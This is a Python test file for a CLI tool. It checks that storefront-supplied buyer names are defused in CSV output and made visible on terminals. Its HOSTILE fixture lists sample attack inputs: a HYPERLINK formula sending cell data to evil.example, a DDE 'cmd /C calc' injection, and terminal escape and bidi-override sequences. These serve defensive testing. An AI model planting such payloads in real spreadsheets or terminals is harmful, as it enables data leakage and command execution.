"""What ``pkgcat client`` and the admin listings print is shown, never obeyed.

Buyers' nicknames and transaction ids come from storefronts, and any server may send
anything: formulas reach the CSV defused (a leading ``'``), and control characters reach
no terminal raw, in tables, plain lines and CSV alike.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from typing import Any

import pytest

from pkgcat.cli._safe import spreadsheet_cell, visible
from pkgcat.storage.admin import CatalogueAdmin
from tests import factories as f
from tests.client.conftest import TERMINAL, Run

HOSTILE = {
    "F-1": '=HYPERLINK("http://evil.example/?x="&B2;"open")',
    "F-2": "+1+cmd|' /C calc'!A0",
    "F-3": "-2+3",
    "F-4": "@SUM(1+1)",
    "F-5": "\tTAB first",
    "T-1": "\x1b]2;owned\x07",
    "T-2": "clear\x1b[2J",
    "T-3": "red\x1b[31m",
    "T-4": "c1 csi\x9b31m",
    "T-5": "right\u202eto left",
    "N-1": "-1.50",
}
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile_buyers(admin: CatalogueAdmin, clock: Any, catalogue: dict[str, str]) -> None:
    admin.load(
        purchases=[
            f.purchase(1, 4, clock.now - timedelta(hours=n), txn_id=txn, nickname=nickname)
            for n, (txn, nickname) in enumerate(HOSTILE.items(), start=1)
        ]
    )


def test_the_buyers_csv_defuses_formulas_and_shows_controls(run: Run, hostile_buyers: None) -> None:
    result = run("alpha-a", "buyers", "com.alpha.other", "--all", "--csv")
    assert result.exit_code == 0, result.output
    assert not RAW_CONTROL.search(result.stdout)
    rows = csv.DictReader(io.StringIO(result.stdout))
    nicknames = {r["txn_id"]: r["nickname"] for r in rows if r["txn_id"] in HOSTILE}
    assert nicknames == {
        "F-1": "'" + HOSTILE["F-1"],
        "F-2": "'+1+cmd|' /C calc'!A0",
        "F-3": "'-2+3",
        "F-4": "'@SUM(1+1)",
        "F-5": "'\\x09TAB first",
        "T-1": "\\x1b]2;owned\\x07",
        "T-2": "clear\\x1b[2J",
        "T-3": "red\\x1b[31m",
        "T-4": "c1 csi\\x9b31m",
        "T-5": "right\\u202eto left",
        "N-1": "-1.50",
    }


def test_the_sales_csv_defuses_formulas_too(run: Run, hostile_buyers: None) -> None:
    result = run("alpha-a", "sales", "--all", "--csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    nicknames = {r["txn_id"]: r["nickname"] for r in rows}
    assert nicknames["F-1"].startswith("'=HYPERLINK(")
    assert nicknames["T-1"] == "\\x1b]2;owned\\x07"
    assert not RAW_CONTROL.search(result.stdout)


@pytest.mark.parametrize("env", [TERMINAL, {}], ids=["table", "plain lines"])
def test_no_terminal_escape_reaches_the_screen(
    run: Run, hostile_buyers: None, env: dict[str, str]
) -> None:
    result = run("alpha-a", "buyers", "com.alpha.other", "--all", env=env)
    assert result.exit_code == 0, result.output
    # The table's own colours are the only escapes: SGR sequences rich writes, nothing else;
    # plain lines hold tabs between their fields, and nowhere else.
    text = re.sub(r"\x1b\[[0-9;]*m", "", result.stdout)
    assert not any(RAW_CONTROL.search(field) for field in text.split("\t"))
    assert "\\x1b]2;owned\\x07" in text
    assert "clear\\x1b[2J" in text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+A1", "'+A1"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1.50", "-1.50"),
        ("+3", "+3"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_formula_cells_get_a_leading_quote(value: str, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


def test_every_control_character_but_line_feed_is_made_visible() -> None:
    everything = "".join(map(chr, range(0x00, 0xA0))) + "\u202a\u202e\u2066\u2069"
    shown = visible(everything)
    assert not RAW_CONTROL.search(shown)
    assert "\n" in shown
    assert shown.startswith("\\x00\\x01")
